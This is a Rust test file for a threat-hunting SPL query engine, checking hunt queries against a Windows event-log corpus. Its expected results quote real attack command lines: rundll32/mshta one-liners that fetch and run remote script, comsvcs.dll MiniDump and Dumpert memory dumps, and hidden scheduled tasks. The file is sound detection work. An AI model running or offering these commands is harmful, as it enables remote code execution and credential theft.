//! SPL: every supported command and function, on the real corpus (expected results tallied
//! independently from the evtx_dump output of the corpus) and on small hand-built tables whose
//! expected results are worked out by hand in the comments.

#[path = "spl/commands.rs"]
mod commands;
#[path = "spl/edges.rs"]
mod edges;
#[path = "spl/errors.rs"]
mod errors;
#[path = "spl/eval.rs"]
mod eval;
#[path = "spl/search.rs"]
mod search;

use std::sync::{Arc, OnceLock};
use taskhunt_query::arrow::array::{ArrayRef, Int64Array, RecordBatch, StringArray, TimestampNanosecondArray};
use taskhunt_query::arrow::datatypes::{DataType, Field, Schema, TimeUnit};
use taskhunt_query::arrow::util::display::{ArrayFormatter, FormatOptions};
use taskhunt_query::{Catalog, CatalogBuilder, Engine, Lang, QueryError};

/// A result as text: column names, then rows of cells (`∅` for null).
#[derive(Debug, PartialEq)]
pub struct Out {
    pub columns: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

impl Out {
    /// One column's cells.
    pub fn col(&self, name: &str) -> Vec<String> {
        let i = self.columns.iter().position(|c| c == name).unwrap_or_else(|| panic!("no column {name} in {:?}", self.columns));
        self.rows.iter().map(|r| r[i].clone()).collect()
    }
}

pub fn run(engine: &Engine, q: &str) -> Out {
    let batches = match engine.run(Lang::Spl, q) {
        Ok(b) => b,
        Err(e) => panic!("{}", e.render(q)),
    };
    let df = engine.plan(Lang::Spl, q).unwrap();
    let columns: Vec<String> = df.schema().fields().iter().map(|f| f.name().clone()).collect();
    let options = FormatOptions::default().with_null("∅");
    let mut rows = Vec::new();
    for b in &batches {
        let f: Vec<ArrayFormatter> = b.columns().iter().map(|c| ArrayFormatter::try_new(c.as_ref(), &options).unwrap()).collect();
        for r in 0..b.num_rows() {
            rows.push(f.iter().map(|x| x.value(r).to_string()).collect());
        }
    }
    Out { columns, rows }
}

pub fn fail(engine: &Engine, q: &str) -> QueryError {
    match engine.run(Lang::Spl, q) {
        Ok(_) => panic!("expected an error from {q}"),
        Err(e) => e,
    }
}

/// Rows as string slices, for terse expectations.
pub fn rows(out: &Out) -> Vec<Vec<&str>> {
    out.rows.iter().map(|r| r.iter().map(String::as_str).collect()).collect()
}

/// A column of a hand-built table: text (`∅` is null), integers, or RFC 3339 times.
pub enum C {
    S(&'static [&'static str]),
    I(&'static [i64]),
    T(&'static [&'static str]),
}

pub fn batch(cols: Vec<(&str, C)>) -> RecordBatch {
    let mut fields = Vec::new();
    let mut arrays: Vec<ArrayRef> = Vec::new();
    for (name, c) in cols {
        match c {
            C::S(v) => {
                fields.push(Field::new(name, DataType::Utf8, true));
                arrays.push(Arc::new(v.iter().map(|s| (*s != "∅").then_some(*s)).collect::<StringArray>()));
            }
            C::I(v) => {
                fields.push(Field::new(name, DataType::Int64, true));
                arrays.push(Arc::new(Int64Array::from(v.to_vec())));
            }
            C::T(v) => {
                fields.push(Field::new(name, DataType::Timestamp(TimeUnit::Nanosecond, Some("UTC".into())), true));
                let ns: Vec<i64> = v.iter().map(|t| taskhunt_events::Timestamp::parse(t).unwrap().unix_nanos() as i64).collect();
                arrays.push(Arc::new(TimestampNanosecondArray::from(ns).with_timezone("UTC")));
            }
        }
    }
    RecordBatch::try_new(Arc::new(Schema::new(fields)), arrays).unwrap()
}

/// The engine's `now` in small-table tests.
pub const NOW: &str = "2024-01-10T12:00:00Z";

pub fn engine(tables: Vec<(&str, RecordBatch)>) -> Engine {
    let e = Engine::new(Catalog::default(), taskhunt_events::Timestamp::parse(NOW).unwrap()).unwrap();
    for (name, b) in tables {
        e.ctx.register_batch(name, b).unwrap();
    }
    e
}

/// The small event table most tests use, as `main`. Event order (newest first) is records
/// 8, 7, 6, 5, 4, 3, 2, 1.
pub fn fixture() -> Engine {
    engine(vec![("main", fixture_batch())])
}

pub fn fixture_batch() -> RecordBatch {
    batch(vec![
        (
            "_time",
            C::T(&[
                "2024-01-10T10:00:00Z",
                "2024-01-10T10:01:00Z",
                "2024-01-10T10:02:00Z",
                "2024-01-10T10:03:00Z",
                "2024-01-10T10:04:00Z",
                "2024-01-10T10:10:00Z",
                "2024-01-10T11:00:00Z",
                "2024-01-10T11:30:00Z",
            ]),
        ),
        ("Computer", C::S(&["HOST-A", "HOST-A", "HOST-B", "HOST-B", "HOST-B", "HOST-A", "host-c", "host-c"])),
        ("EventCode", C::I(&[1, 1, 1, 4624, 4624, 4624, 1, 4688])),
        (
            "Image",
            C::S(&[
                r"C:\Windows\System32\RUNDLL32.EXE",
                r"C:\Windows\System32\cmd.exe",
                r"C:\Windows\System32\rundll32.exe",
                "∅",
                "∅",
                "∅",
                r"C:\Tools\rundll32x.exe",
                r"C:\Windows\System32\svchost.exe",
            ]),
        ),
        (
            "CommandLine",
            C::S(&[
                "rundll32.exe shell32.dll,Control_RunDLL",
                "cmd /c whoami",
                "∅",
                "∅",
                "∅",
                "∅",
                "notepad.exe rundll32 payload",
                "svchost.exe -k netsvcs",
            ]),
        ),
        ("User", C::S(&["alice", "alice", "bob", "bob", "carol", "alice", "dave", "∅"])),
        ("LogonType", C::S(&["∅", "∅", "∅", "3", "10", "2", "∅", "∅"])),
        ("source", C::S(&["a.evtx", "a.evtx", "b.evtx", "b.evtx", "b.evtx", "a.evtx", "c.evtx", "c.evtx"])),
        ("EventRecordID", C::I(&[1, 2, 3, 4, 5, 6, 7, 8])),
    ])
}

/// The record ids a query returns, in order.
pub fn ids(engine: &Engine, q: &str) -> Vec<i64> {
    let q = format!("{q} | table EventRecordID");
    run(engine, &q).rows.iter().map(|r| r[0].parse().unwrap()).collect()
}

/// The whole corpus, read once for all corpus tests.
fn corpus() -> Option<&'static Engine> {
    static CORPUS: OnceLock<Option<Engine>> = OnceLock::new();
    CORPUS
        .get_or_init(|| {
            let dir = taskhunt_events::testing::evtx_samples("spl corpus tests")?;
            let mut b = CatalogBuilder::new();
            taskhunt_events::read_paths(&[dir], &Default::default(), |batch| batch.events.iter().for_each(|e| b.add(e)), |_, _| {});
            Some(Engine::new(b.finish(), taskhunt_events::Timestamp::parse("2023-01-01T00:00:00Z").unwrap()).unwrap())
        })
        .as_ref()
}

/// The write-up's hunt, checked row by row against a tally of the evtx_dump output: Sysmon
/// events of every id whose Image ends with rundll32.exe in any case (118 events), grouped by
/// Computer and CommandLine, the 67 without a CommandLine dropped: 51 events in 33 groups.
#[test]
fn writeup_rundll32_hunt_matches_the_dump() {
    let Some(engine) = corpus() else { return };
    let expected: &[(&str, &str, &str)] = &[
        ("IEWIN7", r#""C:\Windows\System32\rundll32.exe"  advpack.dll,RegisterOCX c:\Windows\System32\calc.exe"#, "1"),
        ("IEWIN7", r#""C:\Windows\System32\rundll32.exe"  pcwutl.dll,LaunchApplication c:\Windows\system32\calc.exe"#, "1"),
        ("IEWIN7", r#""C:\Windows\System32\rundll32.exe" ieframe.dll,OpenURL c:\users\ieuser\appdata\local\temp\ieframe.url"#, "1"),
        ("IEWIN7", r#""C:\Windows\System32\rundll32.exe" shdocvw.dll,OpenURL c:\users\ieuser\appdata\local\temp\shdocvw.url"#, "1"),
        ("IEWIN7", r#""C:\Windows\System32\rundll32.exe" zipfldr.dll,RouteTheCall c:\Windows\System32\calc.exe"#, "1"),
        ("IEWIN7", "rundll32.exe", "1"),
        (
            "IEWIN7",
            r#"rundll32.exe  javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new%%20ActiveXObject("WScript.Shell").run("mshta https://hotelesms.com/talsk.txt",0,true);"#,
            "1",
        ),
        ("IEWIN7", "rundll32.exe  url.dll,FileProtocolHandler calc.exe", "1"),
        ("IEWIN7", "rundll32.exe  url.dll,FileProtocolHandler file:///C:/programdata/calc.hta", "1"),
        ("IEWIN7", "rundll32.exe  url.dll,FileProtocolHandler file://C:/Windows/system32/calc.exe", "1"),
        ("IEWIN7", "rundll32.exe  url.dll,OpenURL file://C:/Windows/system32/calc.exe", "1"),
        (
            "MSEDGEWIN10",
            r#""C:\Windows\SysWOW64\rundll32.exe" "C:\Windows\SysWOW64\shell32.dll",#44 "C:\Users\IEUser\Downloads\Invoice@0582.cpl","#,
            "1",
        ),
        (
            "MSEDGEWIN10",
            r#""C:\Windows\SysWOW64\rundll32.exe" "C:\Windows\SysWOW64\shell32.dll",#44 C:\PROGRA~3\DATAUS~1.DLL 4624665222"#,
            "1",
        ),
        ("MSEDGEWIN10", r#""C:\Windows\System32\rundll32.exe""#, "1"),
        ("MSEDGEWIN10", r#""C:\Windows\System32\rundll32.exe" DATAUS~1.DLL f8755 4624665222 rd"#, "1"),
        ("MSEDGEWIN10", r#""C:\Windows\System32\rundll32.exe" c:\users\public\memViewData.jpg,PluginInit"#, "1"),
        ("MSEDGEWIN10", r#""C:\Windows\System32\rundll32.exe" conf3234.dll f8753 d948"#, "1"),
        (
            "MSEDGEWIN10",
            r#""C:\Windows\system32\rundll32.exe" Shell32.dll,Control_RunDLL "C:\Users\IEUser\Downloads\Invoice@0582.cpl","#,
            "1",
        ),
        (
            "MSEDGEWIN10",
            r#""C:\Windows\system32\rundll32.exe" zipfldr.dll,RouteTheCall shell:::{769f9427-3cc6-4b62-be14-2a705115b7ab}"#,
            "1",
        ),
        (
            "MSEDGEWIN10",
            r"C:\Windows\System32\rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding",
            "1",
        ),
        ("MSEDGEWIN10", r"Rundll32.exe shell32.dll,Control_RunDLL C:\PROGRA~3\DATAUS~1.DLL 4624665222", "1"),
        ("MSEDGEWIN10", "rundll32  AllTheThings.dll,EntryPoint", "2"),
        ("MSEDGEWIN10", r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 4868 C:\Windows\System32\notepad.bin full", "1"),
        ("MSEDGEWIN10", "rundll32 url.dll,FileProtocolHandler ms-browser://", "1"),
        ("MSEDGEWIN10", "rundll32 url.dll,OpenURL ms-browser://", "1"),
        ("MSEDGEWIN10", "rundll32 windowscoredeviceinfo.dll,CreateBackdoor", "18"),
        (
            "MSEDGEWIN10",
            r#"rundll32.exe  javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://raw.githubusercontent.com/op7ic/EDR-Testing-Script/master/Payloads/test")"#,
            "1",
        ),
        (
            "MSEDGEWIN10",
            r#"rundll32.exe  javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new0ActiveXObject("WScript.Shell").run("calc.exe",0,true);try{h.Send();b=h.ResponseText;eval(b);}catch(e){new0ActiveXObject("WScript.Shell").Run("cmd /c taskkill /f /im rundll32.exe && exit",0,true);}"#,
            "1",
        ),
        ("MSEDGEWIN10", "rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh", "1"),
        ("MSEDGEWIN10", r"rundll32.exe C:\PROGRA~3\DATAUS~1.DLL f8755 4624665222", "1"),
        (
            "PC01.example.corp",
            r#""C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,OpenAs_RunDLL C:\Windows\AppPatch\Custom\{3ad6ed23-adf8-4bc1-a898-4d695f482c64}.sdb"#,
            "1",
        ),
        (
            "PC04.example.corp",
            r"C:\Windows\System32\rundll32.exe shell32.dll,SHCreateLocalServerRunDll {995C996E-D918-4a8c-A302-45719A6F4EA7} -Embedding",
            "1",
        ),
        ("alice.insecurebank.local", r"rundll32.exe  .\Outflank-Dumpert-DLL.dll, Dump", "1"),
    ];
    let expected: Vec<Vec<&str>> = expected.iter().map(|(a, b, c)| vec![*a, *b, *c]).collect();
    let q = "index=sysmon Image=\"*rundll32.exe\"\n| stats count by Computer, CommandLine";
    let out = run(engine, q);
    assert_eq!(out.columns, ["Computer", "CommandLine", "count"]);
    assert_eq!(rows(&out), expected);
    // The built-in hunt file (with its `#` header) is the same query.
    let hunt = taskhunt_query::hunts::find("writeup-rundll32").unwrap();
    assert_eq!(run(engine, &hunt.text), out);
}

/// Counts tallied from the dump: 3,241 Sysmon and 1,577 Security events, 8,255 in all; 1,491
/// Sysmon process creations on 15 computers.
#[test]
fn corpus_tables_and_counts() {
    let Some(engine) = corpus() else { return };
    let count = |q: &str| run(engine, &format!("{q} | stats count")).rows[0][0].clone();
    assert_eq!(count("index=sysmon"), "3241");
    assert_eq!(count("sourcetype=\"XmlWinEventLog:Microsoft-Windows-Sysmon/Operational\""), "3241");
    assert_eq!(count("index=wineventlog"), "1577");
    assert_eq!(count("sourcetype=WinEventLog:Security"), "1577");
    assert_eq!(count("index=main"), "8255");
    assert_eq!(count("*"), "8255");
    assert_eq!(count("index=sysmon EventID=1"), "1491");
    assert_eq!(count("index=sysmon EventID=1 | dedup Computer"), "15");
    // Bare term with token boundaries over every text field (the tally applies the same rule
    // to the dump's fields): 148 Sysmon events mention rundll32 as a word.
    assert_eq!(count("index=sysmon rundll32"), "148");
}

/// The hidden-tasks hunt: 4698/4702 events whose task XML says <Hidden>true</Hidden>.
#[test]
fn hidden_tasks_hunt_matches_the_dump() {
    let Some(engine) = corpus() else { return };
    let hunt = taskhunt_query::hunts::find("hidden-tasks").unwrap();
    let out = run(engine, &hunt.text);
    assert_eq!(
        rows(&out),
        vec![
            vec!["01566s-win16-ir.threebeesco.com", r"\LMST", "1"],
            vec!["DC1.insecurebank.local", r"\Microsoft\Windows\SoftwareProtectionPlatform\SvcRestartTask", "4"],
            vec!["WIN-77LTAPHIQ1R.example.corp", r"\CYAlyNSS", "2"],
        ]
    );
}

/// top/rare over Sysmon event ids (counts from the dump; percent = count / 3241).
#[test]
fn corpus_top_rare_and_rex() {
    let Some(engine) = corpus() else { return };
    let out = run(engine, "index=sysmon | top limit=3 EventID");
    assert_eq!(out.columns, ["EventID", "count", "percent"]);
    assert_eq!(rows(&out), vec![vec!["1", "1491", "46.00432"], vec!["7", "654", "20.178957"], vec!["13", "223", "6.880592"]]);
    let out = run(engine, "index=sysmon | rare limit=3 EventID | fields - percent");
    assert_eq!(rows(&out), vec![vec!["15", "1"], vec!["22", "1"], vec!["4", "2"]]);
    // Image base names of process creations: cmd.exe 305, PING.EXE 254, svchost.exe 75.
    let out = run(engine, r#"index=sysmon EventID=1 | rex field=Image "(?<exe>[^\\\\]+)$" | top 3 exe showperc=false"#);
    assert_eq!(rows(&out), vec![vec!["cmd.exe", "305"], vec!["PING.EXE", "254"], vec!["svchost.exe", "75"]]);
}

/// xmlkv on the corpus's three task registrations (4698), read from their TaskContent.
#[test]
fn corpus_xmlkv() {
    let Some(engine) = corpus() else { return };
    let out = run(engine, "index=security EventCode=4698 | xmlkv | table Computer TaskName Command Arguments Hidden");
    assert_eq!(
        rows(&out),
        vec![
            vec!["MSEDGEWIN10", r"\FullPowersTask", r"C:\Users\Public\Tools\TokenManip\FullPowers.exe", "-t 4932", "false"],
            vec!["WIN-77LTAPHIQ1R.example.corp", r"\CYAlyNSS", "cmd.exe", r"/C tasklist > %windir%\Temp\CYAlyNSS.tmp 2>&1", "true"],
            vec!["WIN-77LTAPHIQ1R.example.corp", r"\CYAlyNSS", "cmd.exe", r"/C tasklist > %windir%\Temp\CYAlyNSS.tmp 2>&1", "true"],
        ]
    );
}
